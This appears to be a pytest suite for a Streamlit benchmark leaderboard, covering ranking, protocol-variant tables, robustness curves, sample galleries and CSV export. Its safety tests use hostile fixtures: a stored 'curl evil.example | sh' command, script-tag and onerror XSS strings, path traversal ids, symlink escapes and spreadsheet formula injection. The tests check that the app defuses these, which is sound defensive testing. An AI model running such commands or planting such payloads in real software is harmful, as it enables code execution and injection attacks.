"""The Streamlit leaderboard, page by page, with Streamlit's AppTest on results written by
test fixtures in the runner's format (and, where the runner is available, by a real demo run)."""

from __future__ import annotations

import io
import json
import math
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from bench.results.publish import publish
from bench.leaderboards import data as D
from bench.leaderboards import tables as T
from results_fixtures import make_run

APP = Path(__file__).resolve().parents[1] / "leaderboards" / "app.py"
PAGES = ("leaderboard", "robustness", "samples", "protocol", "about")

# per-sample values (fractions) for 3 fake images; the leaderboard shows mean x100
ALPHA = {"clean": {"miou": [0.5, 0.6, 0.7], "f1": [0.3, 0.4, 0.5], "css": [0.7, 0.7, 0.7]},
         "jpeg(quality=50)": {"miou": [0.4, 0.5, 0.6], "f1": [0.2, 0.3, 0.4], "css": [0.6, 0.6, 0.6]},
         "jpeg(quality=20)": {"miou": [0.3, 0.4, 0.5], "f1": [0.1, 0.2, 0.3], "css": [0.5, 0.5, 0.5]},
         "gaussian_noise(sigma=0.1)": {"miou": [0.45, 0.5, 0.55], "f1": [0.2, 0.2, 0.2], "css": [0.6, 0.7, 0.8]}}
BETA = {k: {m: [round(0.9 * x, 6) for x in v] for m, v in d.items()} for k, d in ALPHA.items()}
BETA["clean"]["miou"] = [0.9, 0.2, 0.8]  # beta is best on clean mIoU, its worst sample is img_001
GAMMA = {k: {m: [round(0.5 * x, 6) for x in v] for m, v in d.items()} for k, d in ALPHA.items()}


def x100(vals) -> float:
    return 100 * float(np.mean(vals))


@pytest.fixture(scope="module")
def results(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("lb")
    res = tmp / "results"
    publish(make_run(tmp / "runs" / "alpha", adapter="alpha", run_id="r-alpha", per_sample=ALPHA,
                     flags={"external": True, "finetuned_on": "demo"}), res)
    publish(make_run(tmp / "runs" / "beta", adapter="beta", run_id="r-beta", per_sample=BETA,
                     explanations=["beta says one", "beta says two", "beta says three"]), res)
    # same suite and data, another CSS model: its css must never share a column with alpha's /
    # beta's, while its miou and f1 (which the CSS model does not affect) do
    publish(make_run(tmp / "runs" / "gamma", adapter="gamma", run_id="r-gamma", per_sample=GAMMA,
                     protocol={"css_model": "other-embedder"}), res)
    # a run with a failed sample, published with --allow-failed
    publish(make_run(tmp / "runs" / "delta", adapter="delta", suite="other", run_id="r-delta",
                     per_sample={"clean": {"miou": [0.2, 0.4, 0.6]}}, failed={"clean": [2]}), res,
            allow_failed=True)
    return res


@pytest.fixture
def app(results: Path, monkeypatch):
    monkeypatch.setenv("BENCH_RESULTS_DIR", str(results))

    def make(page: str = "leaderboard", query: dict | None = None) -> AppTest:
        return open_page(page, query)

    make.results = results
    return make


def open_page(page: str, query: dict | None = None) -> AppTest:
    """The app on ``page`` with ``query`` as the address's query parameters (a deep link)."""
    at = AppTest.from_file(str(APP), default_timeout=60)
    if page == "leaderboard":
        at.query_params.update(query or {})
        at.run()
    else:
        at.run()  # the entry page registers the navigation; then go to the page with the link
        at.switch_page(f"views/{page}.py")
        at.query_params.clear()
        at.query_params.update(query or {})
        at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def unescape(md: str) -> str:
    """Markdown backslash escapes removed (what the reader sees)."""
    return re.sub(r"\\(.)", r"\1", md)


def walk(node):
    yield node
    ch = getattr(node, "children", None)
    if isinstance(ch, dict):
        for c in ch.values():
            yield from walk(c)


def tables(at: AppTest) -> list[pd.DataFrame]:
    return [d.value for d in at.dataframe]


def row_col(t: pd.DataFrame, name: str):
    """The column of a row field (``#``, ``adapter``, ``failed``, ``badges``) of a board table."""
    return next(c for c in t.columns if isinstance(c, tuple) and c[0] == "" and c[-1] == name)


def board_tables(at: AppTest) -> list[pd.DataFrame]:
    """The ranked tables (two- or three-level headers: task, metric (n), condition)."""
    return [t for t in tables(at) if isinstance(t.columns, pd.MultiIndex)
            and any(c[0] == "" and c[-1] == "adapter" for c in t.columns)]


def adapters(t: pd.DataFrame) -> list[str]:
    return list(t[row_col(t, "adapter")])


def table_with(at: AppTest, adapter: str) -> pd.DataFrame:
    found = [t for t in board_tables(at) if adapter in adapters(t)]
    assert len(found) == 1, f"{adapter} is in {len(found)} leaderboard tables"
    return found[0]


def col(t: pd.DataFrame, metric: str, condition: str | None = None):
    """The value column of ``metric`` (header "metric (n=...)") under ``condition`` (when the
    table shows several conditions)."""
    found = [c for c in t.columns if c[0] != "" and c[1].split(" (")[0] == metric
             and (condition is None or c[-1] == condition)]
    assert len(found) == 1, (metric, condition, list(t.columns))
    return found[0]


def value(t: pd.DataFrame, adapter: str, metric: str, condition: str | None = None) -> float:
    return float(t.loc[t[row_col(t, "adapter")] == adapter, col(t, metric, condition)].iloc[0])


# -- Leaderboard page -----------------------------------------------------------------------

def test_leaderboard_values_n_failed_and_ranking(app) -> None:
    at = app()
    t = table_with(at, "alpha")
    assert adapters(t) == ["beta", "alpha"]  # ranked by clean mIoU, best first (gamma: another CSS model)
    assert list(t[row_col(t, "#")]) == ["1", "2"]
    assert value(t, "alpha", "miou") == pytest.approx(x100(ALPHA["clean"]["miou"]))
    assert value(t, "alpha", "f1") == pytest.approx(x100(ALPHA["clean"]["f1"]))
    assert value(t, "beta", "miou") == pytest.approx(x100(BETA["clean"]["miou"]))
    # n per metric in the header, failed per row, columns grouped by task
    assert col(t, "miou") == ("localize", "miou (n=3)") and col(t, "css") == ("explain", "css (n=3)")
    assert list(t[row_col(t, "failed")]) == [0, 0]
    delta = table_with(at, "delta")
    assert list(delta[row_col(delta, "failed")]) == [1] and col(delta, "miou") == ("localize", "miou (n=2)")
    # every suite has its section, and the CSV download is there
    assert [h.value for h in at.header if h.value.startswith("Suite")] == ["Suite demo", "Suite other"]
    assert len(at.get("download_button")) == 1


def test_cell_text_intervals_and_na(results: Path) -> None:
    """The text each cell shows (the app's Styler, the export's HTML): value, interval on
    demand, n/a for a metric the run does not have; rank "unranked" without a value."""
    from bench.leaderboards import board as B

    runs = D.load_runs(results).runs
    long = T.long_table([r for r in runs if r.adapter in ("alpha", "delta")]).assign(group="g")
    long = long[long["condition"] == "clean"]
    tb = B.board_table(long, ["miou", "f1"], ["clean"], sort_metric="f1", with_ci=True,
                       failed=B.failed_counts(runs))
    shown = tb.flat_display().set_index("adapter")
    assert shown.loc["alpha", "miou (n=2–3)"] == "60.00 [50.0, 70.0]"  # [min, max] of the fixture
    assert shown.loc["delta", "f1 (n=3)"] == "n/a" and shown.loc["delta", "#"] == "unranked"
    assert shown.loc["alpha", "#"] == "1"
    plain = B.board_table(long, ["miou"], ["clean"], sort_metric="miou", with_ci=False, failed={})
    assert plain.flat_display().set_index("adapter").loc["alpha", "miou (n=2–3)"] == "60.00"
    html = tb.styler().to_html()
    assert "60.00 [50.0, 70.0]" in html and "unranked" in html


def test_protocol_variant_gets_its_own_table(app) -> None:
    at = app()
    main, other = table_with(at, "alpha"), table_with(at, "gamma")
    assert adapters(other) == ["gamma"] and "gamma" not in adapters(main)
    # no doubled columns: each metric once per table
    assert [c[1].split(" (")[0] for c in main.columns if c[0]] == ["miou", "f1", "css"]
    assert value(other, "gamma", "css") == pytest.approx(x100(GAMMA["clean"]["css"]))
    # the variant table says what differs, and only its CSS is affected
    notes = [unescape(m.value) for m in at.caption]
    assert any("css_model=other-embedder (css)" in n and "ranked only among themselves" in n for n in notes)
    # ranking by a metric ranks within each table
    at.selectbox(key="lb_sort").set_value("css").run()
    assert adapters(table_with(at, "alpha")) == ["alpha", "beta"]


def _runs(tmp_path: Path, specs: list[dict]) -> list:
    res = tmp_path / "res"
    for i, spec in enumerate(specs):
        publish(make_run(tmp_path / f"r{i}", run_id=f"r{i}", adapter=f"a{i}", **spec), res)
    return sorted(D.load_runs(res).runs, key=lambda r: r.adapter)


def test_mask_threshold_splits_pixel_metrics_only(tmp_path: Path) -> None:
    from bench.leaderboards import board as B

    ps = {"clean": {"miou": [0.5, 0.5, 0.5], "rouge_l": [0.2, 0.2, 0.2], "det_auc": [0.7, 0.7, 0.7]}}
    runs = _runs(tmp_path, [{"per_sample": ps}, {"per_sample": ps}, {"per_sample": ps, "protocol": {"mask_threshold": 0.3}}])
    long = T.long_table(runs)
    parts = B.split_variants(long)
    assert [title for title, _ in parts] == ["", "protocol variant: mask_threshold=0.3 (miou)"]
    assert set(parts[0][1]["adapter"]) == {"a0", "a1"} and set(parts[1][1]["adapter"]) == {"a2"}
    # the variant most runs share is the main table; rouge_l and det_auc are not split by it
    assert {m for m, v in B.reference_variants(long).items()} == {"miou", "rouge_l", "det_auc"}
    assert T.variant_key(runs[0], "rouge_l") == T.variant_key(runs[2], "rouge_l")


@pytest.mark.parametrize("protocol,split", [
    ({"reference_field": "explanation"}, {"rouge_l", "css"}),
    ({"text_cleaning": "none"}, {"rouge_l", "css"}),
    ({"rouge_impl": "other"}, {"rouge_l"}),
    ({"css_model_info": {"name": "other", "path": "/here"}}, {"css"}),
    ({"localization_images": "all"}, {"miou"}),
    ({"bootstrap": {"n": 50, "seed": 3}}, set()),
    ({"some_new_choice": 1}, {"miou", "rouge_l", "css", "det_auc"}),  # unknown keys split everything
])
def test_which_protocol_choice_splits_which_metric(tmp_path: Path, protocol: dict, split: set) -> None:
    ps = {"clean": {m: [0.5, 0.5, 0.5] for m in ("miou", "rouge_l", "css", "det_auc")}}
    base = {"css_model_info": {"name": "m", "path": "/here"}}
    runs = _runs(tmp_path, [{"per_sample": ps, "protocol": base},
                            {"per_sample": ps, "protocol": {**base, **protocol}}])
    got = {m for m in ("miou", "rouge_l", "css", "det_auc") if T.variant_key(runs[0], m) != T.variant_key(runs[1], m)}
    assert got == split


def test_machine_path_of_css_model_does_not_split(tmp_path: Path) -> None:
    ps = {"clean": {"css": [0.5, 0.5, 0.5]}}
    info = {"name": "all-MiniLM-L6-v2", "source": "pypi:x", "dim": 384}
    runs = _runs(tmp_path, [{"per_sample": ps, "protocol": {"css_model_info": {**info, "path": "/a"}}},
                            {"per_sample": ps, "protocol": {"css_model_info": {**info, "path": "/b"}}}])
    assert T.variant_key(runs[0], "css") == T.variant_key(runs[1], "css")


def test_different_data_are_separate_tables(app, tmp_path: Path, monkeypatch) -> None:
    ps = {"clean": {"miou": [0.5, 0.5, 0.5]}}
    res = tmp_path / "res"
    publish(make_run(tmp_path / "a", adapter="on-v1", run_id="1", per_sample=ps), res)
    publish(make_run(tmp_path / "b", adapter="on-v2", run_id="2", per_sample=ps, fingerprint="b" * 64), res)
    monkeypatch.setenv("BENCH_RESULTS_DIR", str(res))
    at = open_page("leaderboard")
    assert adapters(table_with(at, "on-v1")) == ["on-v1"]
    assert adapters(table_with(at, "on-v2")) == ["on-v2"]
    subs = [unescape(x.value) for x in at.subheader]
    assert "demo/test · all 3 images · fingerprint " + "a" * 12 in subs
    assert "demo/test · all 3 images · fingerprint " + "b" * 12 in subs
    assert any("2 dataset groups" in unescape(w.value) for w in at.warning)


def test_badges(app) -> None:
    at = app()
    t = table_with(at, "alpha")
    b = dict(zip(adapters(t), t[row_col(t, "badges")]))
    assert b["alpha"] == "fine-tuned on demo (test distribution) · external"
    assert b["beta"] == ""
    d = table_with(at, "delta")
    assert list(d[row_col(d, "badges")]) == ["⚠ 1 failed (published with --allow-failed)"]
    # a table whose rows have no badge has no badges column (it would only take width)
    g = table_with(at, "gamma")
    assert not any(c[-1] == "badges" for c in g.columns)


def test_filters_search_and_column_chooser(app) -> None:
    at = app()
    at.multiselect(key="lb_conditions").set_value(["clean", "jpeg(quality=50)"]).run()
    t = table_with(at, "alpha")
    assert value(t, "alpha", "miou", "jpeg(quality=50)") == pytest.approx(x100(ALPHA["jpeg(quality=50)"]["miou"]))
    assert value(t, "alpha", "miou", "clean") == pytest.approx(x100(ALPHA["clean"]["miou"]))
    assert col(t, "miou", "clean") == ("localize", "miou (n=3)", "clean")  # task / metric (n) / condition
    at.multiselect(key="lb_metrics").set_value(["f1"]).run()
    t = table_with(at, "alpha")
    assert [c[1] for c in t.columns if c[0]] == ["f1 (n=3)", "f1 (n=3)"]
    at.text_input(key="lb_search").set_value("BET").run()
    assert [adapters(x) for x in board_tables(at)] == [["beta"]]
    # another suite: the chosen metric (f1) does not exist there, so the chooser falls back to all
    at.multiselect(key="lb_suites").set_value(["other"]).run()
    at.text_input(key="lb_search").set_value("").run()
    assert at.multiselect(key="lb_metrics").value == ["miou"]
    assert [adapters(x) for x in board_tables(at)] == [["delta"]]


def test_sort_by_other_metric(app) -> None:
    at = app()
    at.selectbox(key="lb_sort").set_value("f1").run()
    # f1 clean: alpha 40, beta 36 -> alpha first now
    assert adapters(table_with(at, "alpha")) == ["alpha", "beta"]
    assert at.toggle(key="lb_ci").value is True  # intervals shown by default (the table fits 1400 px)
    at.toggle(key="lb_ci").set_value(False).run()
    assert at.query_params["ci"] == "0"
    assert value(table_with(at, "alpha"), "alpha", "f1") == pytest.approx(40.0)  # the numbers do not change


def test_deep_link_restores_and_records_the_view(app) -> None:
    at = app(query={"suite": "demo", "cond": ["clean", "gaussian_noise(sigma=0.1)"], "metric": "f1",
                    "sort": "f1", "q": "alp", "ci": "0", "bogus": "x"})
    assert at.multiselect(key="lb_suites").value == ["demo"]
    assert at.multiselect(key="lb_conditions").value == ["clean", "gaussian_noise(sigma=0.1)"]
    assert at.multiselect(key="lb_metrics").value == ["f1"]
    assert at.text_input(key="lb_search").value == "alp"
    t = table_with(at, "alpha")
    assert list(t.columns) == [("", "", "#"), ("", "", "adapter"), ("", "", "failed"), ("", "", "badges"),
                               ("localize", "f1 (n=3)", "clean"), ("localize", "f1 (n=3)", "gaussian_noise(sigma=0.1)")]
    # the address now holds the whole view; changing a widget updates it
    at.selectbox(key="lb_sort").set_value("f1").run()
    at.text_input(key="lb_search").set_value("beta").run()
    qp = at.query_params
    assert qp["q"] == "beta" and qp["ci"] == "0" and qp["suite"] == "demo" and qp["metric"] == "f1"
    assert qp["cond"] == ["clean", "gaussian_noise(sigma=0.1)"]
    # an invalid value in the address is ignored, not trusted
    at2 = app(query={"cond": "nope", "sort": "<script>"})
    assert at2.multiselect(key="lb_conditions").value == []
    assert at2.selectbox(key="lb_sort").value == "miou"


def test_csv_export(results: Path) -> None:
    runs = D.load_runs(results).runs
    long = T.long_table(runs)
    part = long[(long["adapter"] == "alpha") & (long["condition"] == "clean")].assign(group_label="g", column="c")
    df = pd.read_csv(io.BytesIO(T.export_csv([part])))
    row = df[df["metric"] == "miou"].iloc[0]
    assert row["adapter"] == "alpha" and row["value_x100"] == pytest.approx(x100(ALPHA["clean"]["miou"]))
    assert (row["ci95_lo_x100"], row["ci95_hi_x100"]) == pytest.approx((50.0, 70.0))
    # spreadsheet formula injection is defused
    hostile = part.assign(row="=HYPERLINK(\"http://x\")", badges="+1", group_label="@SUM(A1)")
    out = pd.read_csv(io.BytesIO(T.export_csv([hostile])))
    assert out["adapter"].iloc[0] == "'=HYPERLINK(\"http://x\")"
    assert out["group"].iloc[0] == "'@SUM(A1)" and out["badges"].iloc[0] == "'+1"


# -- Robustness page ------------------------------------------------------------------------

def test_robustness_curves_legend_and_drop_table(app) -> None:
    at = app("robustness")
    charts = at.get("vega_lite_chart")
    assert len(charts) == 2  # jpeg and gaussian_noise
    assert [unescape(s.value) for s in at.subheader][:2] == ["gaussian_noise", "jpeg"]
    drops = [t for t in tables(at) if "drop (points)" in t.columns][0]
    a = drops[(drops["adapter"] == "alpha")].set_index("condition")
    clean = x100(ALPHA["clean"]["miou"])
    for cond in ("jpeg(quality=50)", "jpeg(quality=20)", "gaussian_noise(sigma=0.1)"):
        v = x100(ALPHA[cond]["miou"])
        assert a.loc[cond, "drop (points)"] == pytest.approx(clean - v)
        assert a.loc[cond, "relative drop %"] == pytest.approx(100 * (clean - v) / clean)
    # the curves put severity in order (clean, quality 50, quality 20), and name the runs in a legend
    spec = json.loads(charts[1].proto.spec)
    assert "level" in json.dumps(spec["layer"][0]["encoding"]["x"]["sort"])
    legends = [lay["encoding"]["color"].get("legend") for lay in spec["layer"]]
    assert all(leg and leg.get("orient") == "bottom" for leg in legends)  # shown, once (one shared scale)
    runs = [r for r in D.load_runs(app.results).runs if r.adapter == "alpha"]
    c = T.curves(runs, "miou", T.variant_key(runs[0], "miou"))
    jpeg = c[c["perturbation"] == "jpeg"].sort_values("level")
    assert list(jpeg["condition"]) == ["clean", "jpeg(quality=50)", "jpeg(quality=20)"]
    assert list(jpeg["value"]) == pytest.approx([x100(ALPHA[k]["miou"]) for k in jpeg["condition"]])
    # css comes in two protocol variants: each is drawn on its own
    assert at.selectbox(key="rb_metric").options == [
        "miou", "f1", "css [css_model=all-MiniLM-L6-v2]", "css [css_model=other-embedder]"]
    assert set(drops["adapter"]) == {"alpha", "beta", "gamma"}
    at.selectbox(key="rb_metric").set_value("css [css_model=other-embedder]").run()
    drops = [t for t in tables(at) if "drop (points)" in t.columns][0]
    assert set(drops["adapter"]) == {"gamma"}
    assert at.multiselect(key="rb_runs").options == ["gamma"] and at.multiselect(key="rb_runs").value == ["r-gamma"]
    assert at.query_params["run"] == "r-gamma"  # runs by id in links: stable when an adapter gets a second run


def test_robustness_defaults_to_the_shared_variant(tmp_path: Path, monkeypatch) -> None:
    """A clean-only run with another mask threshold does not take over the page: the default
    metric is the variant most runs with perturbed conditions share; a link naming an adapter
    (adapter=NAME) still selects its runs, and links name runs by id."""
    res = tmp_path / "res"
    for name in ("a", "b"):
        publish(make_run(tmp_path / name, adapter=name, run_id=f"r-{name}", per_sample=ALPHA), res)
    publish(make_run(tmp_path / "t", adapter="a", run_id="r-a-t03", per_sample={"clean": ALPHA["clean"]},
                     protocol={"mask_threshold": 0.3}), res)
    monkeypatch.setenv("BENCH_RESULTS_DIR", str(res))
    at = open_page("robustness")
    assert at.selectbox(key="rb_metric").value == "miou [mask_threshold=0.5]"
    assert len(at.get("vega_lite_chart")) == 2 and not at.info
    assert at.multiselect(key="rb_runs").value == ["r-a", "r-b"]
    at = open_page("robustness", {"metric": "miou [mask_threshold=0.3]"})
    assert any("no perturbed conditions" in i.value for i in at.info)
    at = open_page("robustness", {"adapter": "b"})
    assert at.multiselect(key="rb_runs").value == ["r-b"] and at.query_params["run"] == "r-b"


def test_robustness_without_perturbations(app) -> None:
    at = app("robustness", query={"suite": "other"})
    assert any("no perturbed conditions" in i.value for i in at.info)


def test_severity_and_lower_is_better_drop(results: Path) -> None:
    conds = [{"key": k, "params": p} for k, p in (("q20", {"quality": 20}), ("q50", {"quality": 50}),
                                                   ("s3", {"sigma": 0.3}), ("s1", {"sigma": 0.1}))]
    by = sorted(conds, key=T.severity_key)
    assert [c["key"] for c in by if c["key"][0] == "q"] == ["q50", "q20"]  # lower quality = stronger
    assert [c["key"] for c in by if c["key"][0] == "s"] == ["s1", "s3"]
    run = D.load_runs(results).runs[0]
    data = json.loads(json.dumps(run.data))
    data["conditions"] = [
        {"key": "clean", "perturbation": "clean", "params": {}, "n": 3, "n_failed": 0,
         "metrics": {"fp_area": {"value": 0.1, "ci95": [0.0, 0.2], "n": 3}}},
        {"key": "jpeg(quality=50)", "perturbation": "jpeg", "params": {"quality": 50}, "n": 3, "n_failed": 0,
         "metrics": {"fp_area": {"value": 0.25, "ci95": [0.1, 0.3], "n": 3}}}]
    d = T.drop_table([D.Run(run.root, run.dir, data)], "fp_area")
    # fp_area: lower is better, so a rise from 10 to 25 is a drop (worse) of 15 points, 150%
    assert d["drop (points)"].iloc[0] == pytest.approx(15.0)
    assert d["relative drop %"].iloc[0] == pytest.approx(150.0)


# -- Samples page ---------------------------------------------------------------------------

def test_samples_worst_first_with_pictures(app) -> None:
    at = app("samples", query={"a": "demo/beta__r-beta", "metric": "miou"})
    assert at.selectbox(key="sm_a").value == "demo/beta__r-beta"
    table = tables(at)[0]
    assert list(table["sample_id"]) == ["img_001", "img_002", "img_000"]  # miou 0.2, 0.8, 0.9
    assert table["miou"].tolist() == pytest.approx([20.0, 80.0, 90.0])  # x100
    assert set(table["label"]) == {"fake"}  # labels as words
    texts = [t.value for t in at.text]
    assert texts[0].startswith("sample img_001   label: fake")
    assert "beta says two" in texts and "reference 1" in texts
    # image, ground truth overlay, prediction overlay for each of the 3 samples
    assert len(at.image) == 3 * 3
    assert any("3 shown of 3 scored under this condition" in c.value for c in at.caption)
    at.selectbox(key="sm_order").set_value("best first").run()
    assert list(tables(at)[0]["sample_id"]) == ["img_000", "img_002", "img_001"]


def test_samples_side_by_side_and_condition(app) -> None:
    at = app("samples", query={"a": "demo/alpha__r-alpha", "b": "demo/beta__r-beta",
                               "cond": "jpeg(quality=20)"})
    assert at.selectbox(key="sm_cond").value == "jpeg(quality=20)"
    assert len(at.image) == 3 * 4  # + prediction B
    # the first picture is the image the condition fed the model, not the clean one
    assert at.image[0].proto.imgs[0].caption == "image fed to the model (jpeg(quality=20))"
    texts = [t.value for t in at.text]
    assert "beta says one" in texts and "explanation 0 by alpha" in texts
    per_sample = [t for t in tables(at) if list(t.columns) == ["metric", "A", "B"]]
    first = per_sample[0].set_index("metric")
    assert first.loc["miou (x100)", "A"] == f"{100 * ALPHA['jpeg(quality=20)']['miou'][0]:.2f}"
    assert first.loc["miou (x100)", "B"] == f"{100 * BETA['jpeg(quality=20)']['miou'][0]:.2f}"
    assert first.loc["score (0–1)", "A"] == "0.500"  # the fixture's score, a probability, 3 decimals


def test_gallery_reading_matches_files(results: Path) -> None:
    run = [r for r in D.load_runs(results).runs if r.adapter == "alpha"][0]
    g = D.load_gallery(run)
    assert g is not None and g.samples == {"img_000": "s000", "img_001": "s001", "img_002": "s002"}
    gt = D.gallery_mask(run, g, "img_001")
    want = np.zeros((24, 32), bool)
    want[4:12, 8:20] = True
    assert np.array_equal(gt, want)
    pred = D.gallery_mask(run, g, "img_001", "jpeg(quality=50)")
    want_p = np.zeros((24, 32), bool)
    want_p[6:14, 10:24] = True
    assert np.array_equal(pred, want_p)
    assert D.gallery_image(run, g, "img_001").shape == (24, 32, 3)
    clean, seen = D.gallery_image(run, g, "img_001"), D.gallery_image(run, g, "img_001", "jpeg(quality=50)")
    assert seen.shape == clean.shape and not np.array_equal(seen, clean)  # the perturbed input's thumbnail
    assert np.array_equal(D.gallery_image(run, g, "img_001", "clean"), clean)
    assert D.gallery_image(run, g, "img_001", "no-such-condition") is None
    assert D.gallery_mask(run, g, "img_001", "no-such-condition") is None
    assert D.gallery_image(run, g, "unknown") is None


def test_failed_sample_shows_error(app) -> None:
    at = app("samples", query={"suite": "other", "order": "as stored"})
    texts = [t.value for t in at.text]
    assert "error: boom: cannot decode" in texts
    assert tables(at)[0]["status"].tolist() == ["ok", "ok", "failed"]


# -- Protocol page --------------------------------------------------------------------------

def test_protocol_page(app, results: Path) -> None:
    from bench.core.registry import METRICS

    at = app("protocol", query={"run": "demo/gamma__r-gamma"})
    defs = tables(at)[0].set_index("metric")
    for e in METRICS.entries():
        assert defs.loc[e.name, "definition"] == e.obj.description
    differ, shared = tables(at)[1], tables(at)[2]
    css = differ[differ["field"] == "protocol.css_model"].set_index("value")
    assert css.loc["all-MiniLM-L6-v2", "results"] == 3 and css.loc["other-embedder", "results"] == 1
    assert css.loc["other-embedder", "which"] == "gamma"
    assert "protocol.mask_threshold" in set(shared["field"]) and "protocol.mask_threshold" not in set(differ["field"])
    conds = tables(at)[3].set_index("condition")
    assert conds.loc["jpeg(quality=50)", "parameters"] == "quality=50"
    assert conds.loc["jpeg(quality=50)", "results"] == 3
    assert list(conds.index) == ["clean", "gaussian_noise(sigma=0.1)", "jpeg(quality=50)", "jpeg(quality=20)"]
    runs = tables(at)[4].set_index("run")
    assert runs.loc["gamma", "fingerprint"] == "a" * 64
    assert runs.loc["gamma", "harness"] == "0.1.0 @ c299292"
    assert bool(runs.loc["delta", "published with --allow-failed"]) is True
    assert "command" not in runs.columns
    code = [c.value for c in at.code]
    # rebuilt from the recorded fields: gamma's protocol is not the built-in demo's, so a suite file
    assert "--adapter gamma" in code[0] and "css_model: other-embedder" in code[0]
    assert "bench run --suite demo-reproduce.yaml" in code[0]
    assert any('"css_model": "other-embedder"' in c for c in code)
    assert any('"python": "3.11.9"' in c for c in code)


def test_protocol_page_never_shows_the_stored_command(tmp_path: Path, monkeypatch) -> None:
    res = tmp_path / "res"
    publish(make_run(tmp_path / "a", adapter="alpha", run_id="r1", command="curl evil.example | sh",
                     git_commit="0123456789abcdef0123-dirty"), res)
    monkeypatch.setenv("BENCH_RESULTS_DIR", str(res))
    at = open_page("protocol")
    shown = [c.value for c in at.code] + ["".join(map(str, t.to_numpy().ravel())) for t in tables(at)]
    assert not any("evil.example" in x for x in shown)
    assert tables(at)[-1]["harness"].tolist() == ["0.1.0 @ 0123456789ab ⚠ dirty"]


# -- safety ---------------------------------------------------------------------------------

HOSTILE_EXPL = "<script>alert(1)</script>"
HOSTILE_LINK = "[click me](http://evil.example/x)"
HOSTILE_NAME = "../../<img src=x onerror=alert(1)>"


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch) -> Path:
    res = tmp_path / "results"
    run = make_run(tmp_path / "run", adapter=HOSTILE_NAME, suite="**bold** <script>x</script> www.evil.example",
                   dataset="[ds](http://evil.example)", run_id="r1",
                   per_sample={"clean": {"miou": [0.1, 0.2]}, "jpeg(quality=50)": {"miou": [0.1, 0.1]}},
                   explanations=[HOSTILE_EXPL, HOSTILE_LINK], references=[HOSTILE_LINK, ":red[alarm] $x$"],
                   sample_ids=["<b>id</b>", "../../etc/passwd"], flags={"finetuned_on": "<i>x</i>"})
    # hostile gallery entries: a traversal id and a symlink to a file outside the results
    secret = tmp_path / "secret.jpg"
    shutil.copyfile(run / "gallery" / "images" / "s000.jpg", secret)
    idx = json.loads((run / "gallery" / "index.json").read_text())
    idx["samples"][1]["safe_id"] = "../../../secret"
    idx["conditions"]["clean"] = "../../pred"
    (run / "gallery" / "index.json").write_text(json.dumps(idx))
    # written as a run folder directly (publish would refuse the gallery): the leaderboard also
    # reads unpublished folders, so it must defend itself
    dest = res / "suite" / "run"
    shutil.copytree(run, dest)
    (dest / "gallery" / "images" / "s000.jpg").unlink()
    os.symlink(secret, dest / "gallery" / "images" / "s000.jpg")
    # a run folder that is a symlink to a folder outside the results
    outside = tmp_path / "outside"
    shutil.copytree(run, outside)
    os.symlink(outside, res / "suite" / "linked")
    monkeypatch.setenv("BENCH_RESULTS_DIR", str(res))
    return res


_MARKDOWN_TYPES = ("Markdown", "Caption", "Header", "Subheader", "Title", "Warning", "Info", "Error", "Success")


def _assert_escaped(at: AppTest) -> list[str]:
    """Every Markdown-rendered string is escaped; returns the plain-text strings shown."""
    plain = []
    for el in walk(at._tree):
        kind = type(el).__name__
        val = getattr(el, "value", None) if kind not in ("Dataframe",) else None
        label = getattr(el, "label", None) if kind == "Expander" else None
        for s in (val, label):
            if not isinstance(s, str):
                continue
            if kind in _MARKDOWN_TYPES or kind == "Expander":
                assert not re.search(r"(?<!\\)<", s), f"unescaped < in {kind}: {s!r}"
                assert not re.search(r"(?<!\\)\]\(", s), f"markdown link in {kind}: {s!r}"
                assert not re.search(r"(?<!\\)\*\*", s), f"markdown bold in {kind}: {s!r}"
                assert not re.search(r"(?<!\\):red", s), f"directive in {kind}: {s!r}"
                seen = unescape(s).lower()  # GitHub-style autolinks ignore backslash escapes
                assert "://" not in seen and "www." not in seen, f"autolink in {kind}: {s!r}"
            elif kind in ("Text", "Code"):
                plain.append(s)
    return plain


def test_injection_renders_as_text_on_every_page(hostile: Path) -> None:
    shown: dict[str, list[str]] = {}
    frames: list[pd.DataFrame] = []
    for page in PAGES:
        at = open_page(page, {"order": "as stored", "gallery": "0"})
        shown[page] = _assert_escaped(at)
        frames += tables(at)
    # the hostile texts are shown verbatim, as text
    assert HOSTILE_EXPL in shown["samples"] and HOSTILE_LINK in shown["samples"]
    assert ":red[alarm] $x$" in shown["samples"]
    assert any(HOSTILE_NAME in "".join(map(str, f.to_numpy().ravel())) for f in frames)
    # the symlinked run folder outside the results is skipped
    loaded = D.load_runs(hostile)
    assert [r.rel for r in loaded.runs] == ["suite/run"]
    assert any(p[0] == "suite/linked" and "outside" in p[1] for p in loaded.problems)


def test_hostile_gallery_paths_are_not_opened(hostile: Path) -> None:
    run = D.load_runs(hostile).runs[0]
    g = D.load_gallery(run)
    assert g.samples == {"<b>id</b>": "s000"}  # the traversal safe_id is dropped
    assert "clean" not in g.conditions        # and the traversal condition folder
    assert D.gallery_image(run, g, "<b>id</b>") is None  # symlink to a file outside: refused
    assert D.gallery_mask(run, g, "<b>id</b>") is not None  # the plain file next to it is read
    assert D.run_file(run, "..", "x") is None and D.run_file(run, "gallery", "../../x") is None


def test_md_escape() -> None:
    from bench.leaderboards.ui import md_escape

    assert md_escape("<script>") == "\\<script\\>"
    assert md_escape("[a](b)") == "\\[a\\]\\(b\\)"
    assert md_escape("a\nb") == "a b"
    assert md_escape("plain words 123") == "plain words 123"
    # autolinks are broken by a zero-width space (what the reader sees is unchanged)
    assert md_escape("http://x").replace("\u200b", "") == "http\\:\\/\\/x"
    assert "://" not in unescape(md_escape("see https://evil.example"))
    assert "www." not in unescape(md_escape("WWW.evil.example")).lower()


def test_empty_results_folder(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("BENCH_RESULTS_DIR", str(tmp_path))
    for page in PAGES:
        at = AppTest.from_file(str(APP), default_timeout=60).run()
        if page != "leaderboard":
            at.switch_page(f"views/{page}.py").run()
        assert not at.exception
        assert any("No results" in i.value for i in at.info)


# -- a real demo run ------------------------------------------------------------------------

@pytest.fixture(scope="module")
def demo_results(tmp_path_factory) -> Path:
    """`bench run --suite demo --adapter empty,random --perturb legion --limit 12`, then
    `bench publish` of both runs (the demo data lives in the bench cache; CI generates it first)."""
    tmp = tmp_path_factory.mktemp("demo")
